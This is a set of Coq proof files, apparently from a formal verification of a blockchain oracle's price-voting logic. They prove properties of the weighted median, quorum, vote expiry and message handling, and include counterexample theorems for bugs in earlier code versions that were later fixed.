Theorem C10_holds_for_every_input :
  forall p st h, wf st -> P p st h (end_block true p st h).
Proof. exact end_block_holds. Qed.
Print Assumptions C10_holds_for_every_input.

(** A pair's rate is replaced iff the pair is whitelisted and its votes carry power <> 0, at least
    RoundInt(VoteThreshold * bonded power), from at least MinVoters positive-rate votes; holds for every
    input on which the update completes (no domain condition). *)
Theorem C10_replaced_iff_quorum :
  forall p st h rs evs, update true p st h = Done rs evs ->
  forall pr, (In pr (map fst evs) <-> quorum p st pr) /\
             (quorum p st pr -> In (mkRate pr (wmedian true (pair_votes st pr)) h) rs /\
                                In (pr, wmedian true (pair_votes st pr)) evs) /\
             (~ quorum p st pr -> forall e, r_pair e = pr -> In e rs -> In e (rates st)).
Proof. exact replaced_iff_quorum. Qed.
Print Assumptions C10_replaced_iff_quorum.

(** The threshold actually applied is within half a unit of power of VoteThreshold * bonded power
    (banker's rounding): this is the exact sense of "at least VoteThreshold of the bonded power". *)
Theorem C10_threshold_within_half_unit :
  forall p B, 2 * Z.abs (threshold_power p B * PREC - p_threshold p * B) <= PREC.
Proof. exact threshold_within_half_unit. Qed.
Print Assumptions C10_threshold_within_half_unit.

(** The published rate is positive and is a tuple submitted by an eligible (bonded, within
    MaxValidators) validator of positive power — for every total power, including 1 (after d9ae51e). *)
Theorem C10_median_is_submitted_positive_rate :
  forall p st pr, wf st -> quorum p st pr ->
  let m := wmedian true (pair_votes st pr) in
  0 < m /\ exists a pw, In a (votes st) /\ In (pr, m) (a_tuples a) /\
                        perf_power (eligible st) (a_voter a) = Some pw /\ 0 < pw.
Proof. exact median_submitted. Qed.
Print Assumptions C10_median_is_submitted_positive_rate.

(** Balance: at most half of the voting power strictly below the median, at most half (rounded up)
    strictly above it; true as stated in the property, for every total power > 0. *)
Theorem C10_median_balance :
  forall vs, nonneg vs -> 0 < total_power vs -> is_median vs (wmedian true vs).
Proof. exact wmedian_is_median. Qed.
Print Assumptions C10_median_balance.

(** Sharper: it is the LOWEST submitted positive-power rate whose cumulative power reaches floor(T/2);
    this determines it uniquely. *)
Theorem C10_median_is_lowest :
  forall vs, nonneg vs -> 0 < total_power vs -> is_low_median vs (wmedian true vs).
Proof. exact wmedian_is_low_median. Qed.
Print Assumptions C10_median_is_lowest.

(** Go's unstable sort.Sort is irrelevant: any two sorted arrangements of the same votes give the same
    result of the loop; and the median does not depend on the order of the Votes store at all. *)
Theorem C10_median_sort_invariant :
  forall l l', Permutation l l' -> sorted l -> sorted l' -> nonneg l ->
  wmedian_loop true (total_power l / 2) 0 l = wmedian_loop true (total_power l' / 2) 0 l'.
Proof. exact loop_sort_invariant. Qed.
Print Assumptions C10_median_sort_invariant.

Theorem C10_median_permutation_invariant :
  forall vs vs', Permutation vs vs' -> nonneg vs -> wmedian true vs = wmedian true vs'.
Proof. exact wmedian_perm. Qed.
Print Assumptions C10_median_permutation_invariant.

(** Votes of ineligible validators (unbonded, beyond MaxValidators, unknown), votes for non-whitelisted
    pairs and abstentions have no influence: deleting all of them leaves the outcome (store, events,
    panic or not) unchanged; two stores that agree on the relevant votes give the same outcome. *)
Theorem C10_irrelevant_votes_no_influence :
  forall p st h, wf st -> domain p st h = true ->
  update true p (strip st) h = update true p st h.
Proof. exact strip_no_influence. Qed.
Print Assumptions C10_irrelevant_votes_no_influence.

Theorem C10_same_relevant_votes_same_outcome :
  forall p st1 st2 h, wf st1 ->
  validators st2 = validators st1 -> max_validators st2 = max_validators st1 ->
  bonded_tokens st2 = bonded_tokens st1 -> power_reduction st2 = power_reduction st1 ->
  whitelist st2 = whitelist st1 -> rates st2 = rates st1 ->
  votes (strip st2) = votes (strip st1) ->
  domain p st1 h = true -> domain p st2 h = true ->
  end_block true p st2 h = end_block true p st1 h.
Proof. exact irrelevant_votes_no_influence. Qed.
Print Assumptions C10_same_relevant_votes_same_outcome.

(** Over histories of consecutive blocks (arbitrary validator sets, votes, whitelists per block): a stored
    rate whose pair never reaches quorum survives exactly until the first vote-period end at height
    >= created + ExpirationBlocks. *)
Theorem C10_expiry_exact :
  forall p e, no_wrap p e -> forall bs rs h rs',
  (forall b rs0, In b bs -> ~ quorum p (mk_state b rs0) (r_pair e)) ->
  run p rs h bs = Some rs' -> In e rs ->
  (In e rs' <-> forall k, (k < length bs)%nat ->
                          is_period_last (h + Z.of_nat k) (p_vote_period p) = true ->
                          h + Z.of_nat k < r_created e + p_expiration p).
Proof. exact expiry_exact. Qed.
Print Assumptions C10_expiry_exact.

(** HISTORIES of vote periods on one keeper (votes and prevotes are submitted / overwritten between
    EndBlocker calls): the model's observations satisfy P_hist — each step's outcome satisfies P with
    respect to exactly the votes submitted since the last vote-period end, no vote survives a period end,
    a prevote survives iff height < submit block + VotePeriod. *)
Theorem C10_history_holds :
  forall p xs, Forall (fun ex => wf_env (fst ex)) xs -> forall s,
  P_hist p (hs_rates s) (hs_votes s) (hs_prevotes s) (hist_obs true p s xs).
Proof. exact hist_holds. Qed.
Print Assumptions C10_history_holds.

Theorem C10_period_end_clears_votes :
  forall fx p e s x s' evs,
  hist_step fx p e s x = Some (s', evs) -> is_period_last (hp_h x) (p_vote_period p) = true ->
  hs_votes s' = [] /\
  hs_prevotes s' = filter (keep_prevote p (hp_h x)) (put_prevotes (hs_prevotes s) (hp_prevotes x)).
Proof. exact period_end_clears_votes. Qed.
Print Assumptions C10_period_end_clears_votes.

(** The rates published after a vote-period end depend only on the votes of the following periods:
    two histories that differ arbitrarily before a period end (other votes, sub-quorum periods, silent
    validators, other stored rates) publish the same rates for the same subsequent steps. *)
Theorem C10_price_depends_only_on_votes_of_its_period :
  forall fx p e1 s1 x1 s1' ev1 e2 s2 x2 s2' ev2 xs,
  hist_step fx p e1 s1 x1 = Some (s1', ev1) -> is_period_last (hp_h x1) (p_vote_period p) = true ->
  hist_step fx p e2 s2 x2 = Some (s2', ev2) -> is_period_last (hp_h x2) (p_vote_period p) = true ->
  hist_events fx p s1' xs = hist_events fx p s2' xs.
Proof. exact period_votes_only. Qed.
Print Assumptions C10_price_depends_only_on_votes_of_its_period.

Theorem C10_history_checker_sound :
  forall p l rs cast pvs, Pb_hist p rs cast pvs l = true -> P_hist p rs cast pvs l.
Proof. exact Pb_hist_sound. Qed.
Print Assumptions C10_history_checker_sound.

(** MESSAGE LEVEL.  Votes enter through the message server (prevote / vote / feeder-delegation messages after
    ValidateBasic) with the validator and feeder written as strings in ANY accepted spelling (lower-case or upper-case
    bech32) or rejected ones.  For every sequence of blocks of such messages, every per-block staking view and every
    canonical starting store: each EndBlocker outcome of the current code satisfies P w.r.t. exactly the votes cast — by
    VALIDATOR IDENTITY (the address the validator field decodes to) — through accepted messages since the last period
    end; no vote survives a period end. *)
Theorem C10_msg_history_holds :
  forall p xs, Forall (fun ex => wf_env (fst ex)) xs -> forall s, canonical_store s ->
  P_mhist p (ms_rates s) (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)) (mhist_obs true true true p s xs).
Proof. exact mhist_holds. Qed.
Print Assumptions C10_msg_history_holds.

(** The identity map "message string -> validator" is applied before anything is stored: the Voter string in the
    store is the canonical spelling of the key, hence the tally's lookup by stored string is a lookup by identity. *)
Theorem C10_stored_voter_is_canonical :
  forall p wl h ms s s1 acc, deliver_all true true p wl h s ms = (s1, acc) -> canonical_store s ->
  canonical_store s1 /\ votes_seen (ms_votes s1) = map to_avote (ms_votes s1).
Proof. exact stored_voter_is_canonical. Qed.
Print Assumptions C10_stored_voter_is_canonical.

(** Which messages are accepted and which rates are published, at every block, do not depend on how the validator /
    feeder / operator / delegate fields of the messages are spelled. *)
Theorem C10_rate_independent_of_spelling :
  forall dc fx p xs1 xs2, Forall2 mstep_equiv xs1 xs2 ->
  forall s, mhist_events true dc fx p s xs1 = mhist_events true dc fx p s xs2.
Proof. exact spelling_irrelevant. Qed.
Print Assumptions C10_rate_independent_of_spelling.

Theorem C10_msg_checker_sound :
  forall p l rs cast pvs, Pb_mhist p rs cast pvs l = true -> P_mhist p rs cast pvs l.
Proof. exact Pb_mhist_sound. Qed.
Print Assumptions C10_msg_checker_sound.

(** A message server that stores the raw [msg.Validator] string instead ([fc = false]) violates the property: five
    bonded validators of power 10 vote 100, 100, 200, 300, 300; validator 2 writes its address in upper case; all ten
    messages are accepted, 100 is published (the weighted median is 200), and the lower-case history publishes 200. *)
Theorem C10_raw_voter_string_refuted :
  exists p s xs1 xs2,
    canonical_store s /\ Forall (fun ex => wf_env (fst ex)) xs1 /\ Forall2 mstep_equiv xs1 xs2 /\
    mhist_events false true true p s xs1 <> mhist_events false true true p s xs2 /\
    ~ P_mhist p (ms_rates s) (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)) (mhist_obs false true true p s xs1).
Proof. exact raw_voter_string_refuted. Qed.
Print Assumptions C10_raw_voter_string_refuted.

(** ONE VOTE PER (VALIDATOR, PAIR).  The specification keys the votes of a period by (validator identity, pair)
    ([Spec.track] / [dedup_pairs]): each validator's power counts once per pair and the voters of a pair are distinct
    validators.  With the parser's all-pairs duplicate test (fact [cc_dup_check = DupSeenSet]) — whatever vote strings are
    sent: a pair repeated adjacently, non-adjacently, three times, with equal or different rates — the tally at the end of a
    block never sees two votes of one validator for one pair, and the store invariants hold again after every block. *)
Theorem C10_one_vote_per_validator_and_pair :
  forall p wl h ms s s1 acc e rs pr,
  deliver_all true true p wl h s ms = (s1, acc) -> canonical_store s -> well_keyed s ->
  NoDup (map pv_voter (pair_votes (env_state e (votes_seen (ms_votes s1)) rs) pr)).
Proof. exact one_vote_per_validator_and_pair. Qed.
Print Assumptions C10_one_vote_per_validator_and_pair.

Theorem C10_msg_store_invariants :
  forall fx p e s x acc s' evs,
  mhist_step true true fx p e s x = (acc, Some (s', evs)) -> canonical_store s -> well_keyed s ->
  canonical_store s' /\ well_keyed s'.
Proof. exact mhist_step_invariants. Qed.
Print Assumptions C10_msg_store_invariants.

(** A parser that only compares each pair with the PRECEDING one ([dc = false]) violates the property: validators 0-3 of
    power 10 vote 100, 200, 300, 400; validator 4 names the pair twice at rate 1 with another pair in between; the message is
    accepted, validator 4 is tallied twice and 100 is published — the weighted median of the five validators' votes is 200,
    which is what the current parser (message refused) publishes. *)
Theorem C10_adjacent_only_duplicate_check_refuted :
  exists p s xs,
    canonical_store s /\ well_keyed s /\ Forall (fun ex => wf_env (fst ex)) xs /\
    mhist_events true false true p s xs <> mhist_events true true true p s xs /\
    ~ P_mhist p (ms_rates s) (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)) (mhist_obs true false true p s xs).
Proof. exact adjacent_only_duplicate_check_refuted. Qed.
Print Assumptions C10_adjacent_only_duplicate_check_refuted.

(** Inside the domain the update never panics. *)
Theorem C10_no_panic_in_domain :
  forall p st h, wf st -> domain p st h = true -> update true p st h <> Panic.
Proof. exact update_no_panic. Qed.
Print Assumptions C10_no_panic_in_domain.

(** The boolean checker evaluated on implementation traces is sound for P. *)
Theorem C10_checker_sound : forall p st h obs, Pb p st h obs = true -> P p st h obs.
Proof. exact Pb_sound. Qed.
Print Assumptions C10_checker_sound.

(** The code before d9ae51e violates the property (two validators of power 1, one votes 5.0, one
    abstains: 0 is published), and there an abstention does influence the outcome. *)
Theorem C10_refuted_before_fix :
  exists p st h, wf st /\ domain p st h = true /\ ~ P p st h (end_block false p st h).
Proof. exact refuted_before_fix. Qed.
Print Assumptions C10_refuted_before_fix.

Theorem C10_abstain_influence_refuted_before_fix :
  exists p st h, wf st /\ update false p (strip st) h <> update false p st h.
Proof. exact abstain_influence_before_fix. Qed.
Print Assumptions C10_abstain_influence_refuted_before_fix.

(** The three spots repaired after this check found them (variants selectable in [end_block_gen]):
    before 48f939b an ExpirationBlocks near 2^64 wrapped the uint64 sum and a fresh rate was dropped (the
    current code keeps it); before 66a0ce3 a median near the Dec limit made Tally panic (the current code
    publishes it); a VoteThreshold far above 1 still overflows MulInt64, but only for parameter values that
    Params.Validate rejects since 662a06f (at genesis and on every edit). *)
Theorem C10_expiry_wrap_refuted_before_fix :
  exists p st h e, wf st /\ domain p st h = true /\ In e (rates st) /\ ~ expired_at p e h /\ ~ quorum p st (r_pair e) /\
                   end_block_gen true false true p st h = Done [] [] /\
                   end_block true p st h = Done [e] [].
Proof. exact expiry_wrap_before_fix. Qed.
Print Assumptions C10_expiry_wrap_refuted_before_fix.

Theorem C10_tally_add_panics_before_fix :
  exists p st h, wf st /\ domain p st h = true /\ quorum p st 0%nat /\
                 end_block_gen true true false p st h = Panic /\
                 end_block true p st h = Done [mkRate 0 DEC_LIMIT h] [(0%nat, DEC_LIMIT)].
Proof. exact tally_add_panics_before_fix. Qed.
Print Assumptions C10_tally_add_panics_before_fix.

Theorem C10_threshold_panics_only_for_rejected_params :
  exists p st h, wf st /\ params_valid p = false /\ end_block true p st h = Panic.
Proof. exact threshold_panics_only_for_rejected_params. Qed.
Print Assumptions C10_threshold_panics_only_for_rejected_params.

Theorem C10_variants_current :
  forall fx p st h, end_block_gen fx true true p st h = end_block fx p st h.
Proof. exact end_block_gen_current. Qed.
Print Assumptions C10_variants_current.
