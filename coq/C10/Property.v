(** C10 — exported statements only. *)
From Coq Require Import ZArith List Bool Arith.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec Nib.C10.Proofs.
Local Open Scope Z_scope.

Theorem C10_checker_sound : forall p st h obs, Pb p st h obs = true -> P p st h obs.
Proof. exact Pb_sound. Qed.
Print Assumptions C10_checker_sound.
