(** C10 — histories of vote periods on one keeper: every period end empties the Votes store, so the
    rates published at a period end depend only on the votes submitted since the previous period end. *)
From Coq Require Import ZArith List Bool Arith Lia.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec Nib.C10.ProofsMedian Nib.C10.ProofsUpdate Nib.C10.ProofsPanic.
Local Open Scope Z_scope.

Definition wf_env (e : henv) : Prop := forall v, In v (he_validators e) -> 0 <= v_power v.

Lemma wf_env_state e vs rs : wf_env e -> wf (env_state e vs rs).
Proof. intros H v Hv. apply H. exact Hv. Qed.

(** at a vote-period end no vote survives; a prevote survives iff height < submit + VotePeriod *)
Theorem period_end_clears_votes fx p e s x s' evs :
  hist_step fx p e s x = Some (s', evs) -> is_period_last (hp_h x) (p_vote_period p) = true ->
  hs_votes s' = [] /\
  hs_prevotes s' = filter (keep_prevote p (hp_h x)) (put_prevotes (hs_prevotes s) (hp_prevotes x)).
Proof.
  unfold hist_step. intros H Hl.
  destruct (end_block fx p (env_state e (put_votes (hs_votes s) (hp_votes x)) (hs_rates s)) (hp_h x)); [discriminate|].
  rewrite Hl in H. injection H as <- _. split; reflexivity.
Qed.

(** inside a period the stores only accumulate (Insert overwrites per voter) *)
Theorem mid_period_accumulates fx p e s x s' evs :
  hist_step fx p e s x = Some (s', evs) -> is_period_last (hp_h x) (p_vote_period p) = false ->
  hs_votes s' = put_votes (hs_votes s) (hp_votes x) /\ hs_prevotes s' = put_prevotes (hs_prevotes s) (hp_prevotes x) /\
  hs_rates s' = hs_rates s /\ evs = [].
Proof.
  unfold hist_step, end_block. intros H Hl. rewrite Hl in H. injection H as <- <-. repeat split; reflexivity.
Qed.

(** panic or not, and the published events, do not depend on the stored rates *)
Lemma end_block_events_indep_rates fx p e vs rs1 rs2 h :
  match end_block fx p (env_state e vs rs1) h, end_block fx p (env_state e vs rs2) h with
  | Panic, Panic => True
  | Done _ ev1, Done _ ev2 => ev1 = ev2
  | _, _ => False
  end.
Proof.
  unfold end_block. destruct (is_period_last h (p_vote_period p)); [|reflexivity].
  unfold update.
  change (voted_pairs (env_state e vs rs1)) with (voted_pairs (env_state e vs rs2)).
  change (bonded_power (env_state e vs rs1)) with (bonded_power (env_state e vs rs2)).
  change (valid_pairs p (env_state e vs rs1)) with (valid_pairs p (env_state e vs rs2)).
  destruct ((match voted_pairs (env_state e vs rs2) with [] => false | _ :: _ => true end) &&
            negb (threshold_ok p (bonded_power (env_state e vs rs2)))); [exact I|].
  change (fun pr => (pr, wmedian fx (pair_votes (env_state e vs rs1) pr)))
    with (fun pr => (pr, wmedian fx (pair_votes (env_state e vs rs2) pr))).
  change (fun pm : nat * Z => tally_ok (p_reward_band p) (pair_votes (env_state e vs rs1) (fst pm)) (snd pm))
    with (fun pm : nat * Z => tally_ok (p_reward_band p) (pair_votes (env_state e vs rs2) (fst pm)) (snd pm)).
  destruct (forallb _ _); [reflexivity | exact I].
Qed.

(** the sequence of published events of a history depends on the starting stores only through the
    Votes store *)
Theorem hist_events_depend_on_votes_only fx p : forall xs s1 s2,
  hs_votes s1 = hs_votes s2 -> hist_events fx p s1 xs = hist_events fx p s2 xs.
Proof.
  induction xs as [|[e x] xs IH]; intros s1 s2 Hv; [reflexivity|].
  cbn [hist_events]. unfold hist_step. rewrite Hv.
  pose proof (end_block_events_indep_rates fx p e (put_votes (hs_votes s2) (hp_votes x)) (hs_rates s1) (hs_rates s2) (hp_h x)) as H.
  destruct (end_block fx p (env_state e (put_votes (hs_votes s2) (hp_votes x)) (hs_rates s1)) (hp_h x)) as [|r1 ev1];
    destruct (end_block fx p (env_state e (put_votes (hs_votes s2) (hp_votes x)) (hs_rates s2)) (hp_h x)) as [|r2 ev2];
    try contradiction; [reflexivity|].
  subst ev2. destruct (is_period_last (hp_h x) (p_vote_period p)); f_equal; apply IH; reflexivity.
Qed.

(** MAIN: whatever happened before two vote-period ends (different earlier votes, sub-quorum periods,
    silent validators, different stored rates, different validator sets), the rates published afterwards
    are the same function of the steps that follow: a price depends only on the votes of its own period
    (and on the staking view at its own block). *)
Theorem period_votes_only fx p e1 s1 x1 s1' ev1 e2 s2 x2 s2' ev2 xs :
  hist_step fx p e1 s1 x1 = Some (s1', ev1) -> is_period_last (hp_h x1) (p_vote_period p) = true ->
  hist_step fx p e2 s2 x2 = Some (s2', ev2) -> is_period_last (hp_h x2) (p_vote_period p) = true ->
  hist_events fx p s1' xs = hist_events fx p s2' xs.
Proof.
  intros H1 L1 H2 L2. apply hist_events_depend_on_votes_only.
  destruct (period_end_clears_votes _ _ _ _ _ _ _ H1 L1) as [-> _].
  destruct (period_end_clears_votes _ _ _ _ _ _ _ H2 L2) as [-> _]. reflexivity.
Qed.

(* ---------------------------------------------------------------- the history property *)

Definition hobs_of (s : hstate) (evs : list (nat * Z)) : hobs := mkHObs false (hs_rates s) evs (hs_votes s) (hs_prevotes s).
Definition panic_hobs : hobs := mkHObs true [] [] [] [].

Fixpoint hist_obs (fx : bool) (p : params) (s : hstate) (xs : list (henv * hstep)) : list (henv * hstep * hobs) :=
  match xs with
  | [] => []
  | (e, x) :: r => match hist_step fx p e s x with
                   | None => [(e, x, panic_hobs)]
                   | Some (s', evs) => (e, x, hobs_of s' evs) :: hist_obs fx p s' r
                   end
  end.

Theorem hist_holds p : forall xs, Forall (fun ex => wf_env (fst ex)) xs -> forall s,
  P_hist p (hs_rates s) (hs_votes s) (hs_prevotes s) (hist_obs true p s xs).
Proof.
  induction xs as [|[e x] xs IH]; intros Hall s; [exact I|].
  inversion Hall as [|? ? Hw Hr]; subst. simpl in Hw.
  cbn [hist_obs]. unfold hist_step.
  pose proof (end_block_holds p (env_state e (put_votes (hs_votes s) (hp_votes x)) (hs_rates s)) (hp_h x)
                              (wf_env_state e _ _ Hw)) as HP.
  destruct (end_block true p (env_state e (put_votes (hs_votes s) (hp_votes x)) (hs_rates s)) (hp_h x)) as [|rs evs] eqn:E.
  - cbn [P_hist]. split; [|intro Hc; discriminate]. unfold P_hstep. cbv zeta. split; [exact HP | intro Hc; discriminate].
  - destruct (is_period_last (hp_h x) (p_vote_period p)) eqn:El.
    + cbn [P_hist]. split.
      * unfold P_hstep. cbv zeta. rewrite El. split; [exact HP | intros _; split; reflexivity].
      * intros _. cbv zeta. rewrite El.
        apply (IH Hr (mkHS rs [] (filter (keep_prevote p (hp_h x)) (put_prevotes (hs_prevotes s) (hp_prevotes x))))).
    + cbn [P_hist]. split.
      * unfold P_hstep. cbv zeta. rewrite El. split; [exact HP | intros _; split; reflexivity].
      * intros _. cbv zeta. rewrite El.
        apply (IH Hr (mkHS rs (put_votes (hs_votes s) (hp_votes x)) (put_prevotes (hs_prevotes s) (hp_prevotes x)))).
Qed.

(* ---------------------------------------------------------------- non-vacuity *)

(** five validators of power 1, MinVoters 4: period 1 only validator 0 votes 1000 (no quorum); period 2
    validators 1-4 vote 200,200,300,300: 200 is published (a stale 1000 would give 300) *)
Definition e5 : henv := mkHEnv [mkVal 0 true 1; mkVal 1 true 1; mkVal 2 true 1; mkVal 3 true 1; mkVal 4 true 1] 100 5000000 1000000 [0%nat].
Definition p5 : params := mkParams 1 500000000000000000 4 100 20000000000000000.
Definition r18 (n : Z) : Z := n * 1000000000000000000.
Definition xs5 : list (henv * hstep) :=
  map (fun x => (e5, x)) [mkHStep [mkAVote 0 [(0%nat, r18 1000)]] [] 2;
   mkHStep [mkAVote 1 [(0%nat, r18 200)]; mkAVote 2 [(0%nat, r18 200)]; mkAVote 3 [(0%nat, r18 300)]; mkAVote 4 [(0%nat, r18 300)]] [] 3].
Example ex_stale_vote_not_counted :
  wf_env e5 /\ hist_events true p5 (mkHS [] [] []) xs5 = [[]; [(0%nat, r18 200)]].
Proof. split; [intros v Hv; repeat (destruct Hv as [<-|Hv]; [simpl; lia|]); destruct Hv | vm_compute; reflexivity]. Qed.
