(** C10 — inside the overflow-free domain the price update never panics ("Int overflow" of
    LegacyDec in Tally / MulInt64), so the characterisation of ProofsUpdate applies to every input
    of the domain. *)
From Coq Require Import ZArith List Bool Arith Lia Permutation.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec Nib.C10.ProofsMedian Nib.C10.ProofsUpdate.
Local Open Scope Z_scope.
Local Arguments Z.mul : simpl never.
Local Arguments Z.add : simpl never.
Local Arguments Z.div : simpl never.
Local Arguments Z.sqrt : simpl never.
Local Arguments Z.pow : simpl never.

Definition E9 : Z := 1000000000.
Definition SD_MAX : Z := Z.sqrt DEC_LIMIT * E9.

Lemma PREC_E9 : PREC = E9 * E9. Proof. reflexivity. Qed.
Lemma PREC_pos : 0 < PREC. Proof. reflexivity. Qed.
Lemma HALF_2 : 2 * HALF = PREC. Proof. reflexivity. Qed.
Lemma LIMIT_pos : 0 < DEC_LIMIT. Proof. reflexivity. Qed.
Lemma const_2 : 2 * SD_MAX + 2 <= DEC_LIMIT.
Proof. apply Z.leb_le. vm_compute. reflexivity. Qed.
Lemma const_3 : SD_MAX <= DEC_LIMIT.
Proof. apply Z.leb_le. vm_compute. reflexivity. Qed.
Lemma const_5 : PREC * 2 ^ 63 <= DEC_LIMIT /\ 2 ^ 63 + 1 < 2 ^ 256.
Proof. split; [apply Z.leb_le | apply Z.ltb_lt]; vm_compute; reflexivity. Qed.
Lemma SD_MAX_nonneg : 0 <= SD_MAX.
Proof. apply Z.leb_le. vm_compute. reflexivity. Qed.

Lemma in_range_iff x : in_range x = true <-> Z.abs x <= DEC_LIMIT.
Proof. unfold in_range. apply Z.leb_le. Qed.

Lemma chop_round_pos_le d : 0 <= d -> 0 <= chop_round_pos d <= d / PREC + 1.
Proof.
  intro Hd. unfold chop_round_pos. pose proof PREC_pos.
  assert (0 <= d / PREC) by (apply Z.div_pos; lia).
  destruct (d mod PREC =? 0); [lia|]. destruct (d mod PREC <? HALF); [lia|].
  destruct (HALF <? d mod PREC); [lia|]. destruct (Z.even (d / PREC)); lia.
Qed.

Lemma chop_round_nonneg d : 0 <= d -> chop_round d = chop_round_pos d.
Proof. intro H. unfold chop_round. assert (E : (d <? 0) = false) by (apply Z.ltb_ge; lia). rewrite E. reflexivity. Qed.

Lemma mul_square_nonneg d : 0 <= mul d d.
Proof.
  unfold mul. assert (0 <= d * d) by nia. rewrite chop_round_nonneg by assumption.
  apply chop_round_pos_le. assumption.
Qed.

Lemma mul_half_bound m b : 0 <= m -> 0 <= b <= HALF -> 0 <= mul m b <= m / 2 + 1.
Proof.
  intros Hm Hb. unfold mul. assert (0 <= m * b) by nia. rewrite chop_round_nonneg by assumption.
  pose proof (chop_round_pos_le (m * b) H) as [L U]. split; [exact L|].
  pose proof PREC_pos. pose proof HALF_2.
  assert (m * b / PREC <= m / 2).
  { assert (m * b <= m * HALF) by nia.
    assert (m * HALF / PREC = m / 2).
    { replace PREC with (2 * HALF) by exact HALF_2.
      rewrite Z.div_mul_cancel_r; [reflexivity | lia | unfold HALF; lia]. }
    rewrite <- H3. apply Z.div_le_mono; lia. }
  lia.
Qed.

Lemma quo_int_half band : 0 <= band <= PREC -> 0 <= quo_int band 2 <= HALF.
Proof.
  intros [H1 H2]. unfold quo_int. rewrite Z.quot_div_nonneg by lia. pose proof HALF_2.
  split; [apply Z.div_pos; lia|]. apply Z.div_le_upper_bound; lia.
Qed.

(* ---------------------------------------------------------------- standard deviation *)

Lemma chk_some x y : chk x = Some y -> y = x /\ Z.abs x <= DEC_LIMIT.
Proof. unfold chk. destruct (in_range x) eqn:E; [|discriminate]. intro H. injection H as <-. split; [reflexivity | apply in_range_iff; exact E]. Qed.

Lemma sd_fold_inv m vs : forall s n s' n',
  0 <= s <= DEC_LIMIT -> 0 <= n ->
  fold_left (sd_step m) vs (Some (s, n)) = Some (s', n') -> 0 <= s' <= DEC_LIMIT /\ n <= n'.
Proof.
  induction vs as [|v vs IH]; simpl; intros s n s' n' Hs Hn H.
  - injection H as <- <-. split; [exact Hs | lia].
  - destruct (0 <? pv_rate v).
    + destruct (chk (pv_rate v - m)) as [d|] eqn:E1.
      2:{ assert (F : fold_left (sd_step m) vs None = None) by (clear; induction vs; simpl; auto). rewrite F in H. discriminate. }
      destruct (chk (mul d d)) as [sq|] eqn:E2.
      2:{ assert (F : fold_left (sd_step m) vs None = None) by (clear; induction vs; simpl; auto). rewrite F in H. discriminate. }
      destruct (chk (s + sq)) as [t|] eqn:E3.
      2:{ assert (F : fold_left (sd_step m) vs None = None) by (clear; induction vs; simpl; auto). rewrite F in H. discriminate. }
      apply chk_some in E2 as [-> _]. apply chk_some in E3 as [-> B3].
      pose proof (mul_square_nonneg d).
      assert (A0 : 0 <= s + mul d d <= DEC_LIMIT) by lia. assert (A1 : 0 <= n + 1) by lia.
      destruct (IH _ _ _ _ A0 A1 H) as [A B]. split; [exact A | lia].
    + apply (IH _ _ _ _ Hs Hn H).
Qed.

Lemma sqrt_dec_exact q : 0 <= q -> sqrt_dec q = Z.sqrt q * E9.
Proof.
  intro Hq. unfold sqrt_dec, quo. pose proof (Z.sqrt_nonneg q) as Hs.
  set (a := Z.sqrt q) in *.
  assert (E : a * PREC * PREC * PREC = (a * E9 * PREC) * (1000000000 * PREC)).
  { change 1000000000 with E9. rewrite PREC_E9. ring. }
  rewrite E. rewrite Z.quot_mul by (unfold PREC; lia).
  assert (0 <= a * E9) by (unfold E9; lia).
  rewrite chop_round_nonneg by (pose proof PREC_pos; nia).
  unfold chop_round_pos. pose proof PREC_pos.
  rewrite Z.mod_mul by lia. rewrite Z.div_mul by lia. reflexivity.
Qed.

Lemma stddev_bound vs m : 0 <= stddev vs m <= SD_MAX.
Proof.
  unfold stddev. pose proof SD_MAX_nonneg. pose proof LIMIT_pos.
  destruct (fold_left (sd_step m) vs (Some (0, 0))) as [[s n]|] eqn:E; [|lia].
  assert (A0 : 0 <= 0 <= DEC_LIMIT) by lia. assert (A1 : 0 <= 0) by lia.
  destruct (sd_fold_inv m vs 0 0 s n A0 A1 E) as [Hs Hn].
  destruct (n =? 0) eqn:En; [lia|]. apply Z.eqb_neq in En.
  assert (Hq : 0 <= Z.quot s n <= DEC_LIMIT).
  { rewrite Z.quot_div_nonneg by lia. split; [apply Z.div_pos; lia|].
    assert (s / n <= s) by (apply Z.div_le_upper_bound; nia). lia. }
  rewrite sqrt_dec_exact by lia. unfold SD_MAX.
  pose proof (Z.sqrt_nonneg (Z.quot s n)). pose proof (Z.sqrt_le_mono (Z.quot s n) DEC_LIMIT ltac:(lia)).
  unfold E9. lia.
Qed.

(* ---------------------------------------------------------------- Tally does not overflow *)

Lemma tally_ok_in_domain band vs m :
  0 <= band <= PREC -> 0 < m <= DEC_LIMIT -> (forall v, In v vs -> Z.abs (pv_rate v) <= DEC_LIMIT) ->
  tally_ok band vs m = true.
Proof.
  intros Hb Hm Hv. unfold tally_ok, reward_spread. cbv zeta.
  pose proof (quo_int_half band Hb) as Hq.
  pose proof (mul_half_bound m (quo_int band 2) ltac:(lia) Hq) as Hs.
  pose proof (stddev_bound vs m) as Hsd.
  pose proof const_2. pose proof const_3.
  assert (Hd : 2 * (m / 2) <= m < 2 * (m / 2) + 2) by (pose proof (Z.div_mod m 2 ltac:(lia)); pose proof (Z.mod_pos_bound m 2 ltac:(lia)); lia).
  set (s := mul m (quo_int band 2)) in *. set (sd := stddev vs m) in *.
  set (sp := if s <? sd then sd else s).
  assert (Hsp : 0 <= sp /\ (sp <= m / 2 + 1 \/ sp <= SD_MAX)).
  { unfold sp. destruct (s <? sd) eqn:E; [apply Z.ltb_lt in E | apply Z.ltb_ge in E]; lia. }
  rewrite !andb_true_iff, !in_range_iff. split; [split; [lia|lia]|].
  apply forallb_forall. intros v Hin. specialize (Hv v Hin).
  destruct (m - sp <=? pv_rate v) eqn:E; [|reflexivity]. apply Z.leb_le in E. simpl.
  apply in_range_iff. lia.
Qed.

Lemma median_in_range p st h pr :
  wf st -> domain p st h = true -> quorum p st pr ->
  0 < wmedian true (pair_votes st pr) <= DEC_LIMIT.
Proof.
  intros Hw Hd Hq. destruct (median_submitted p st pr Hw Hq) as [Hpos [a [pw [Ha [Ht _]]]]].
  split; [exact Hpos|].
  apply domain_inv in Hd as [_ [_ [_ [_ [_ Hv]]]]]. specialize (Hv a _ Ha Ht). simpl in Hv. lia.
Qed.

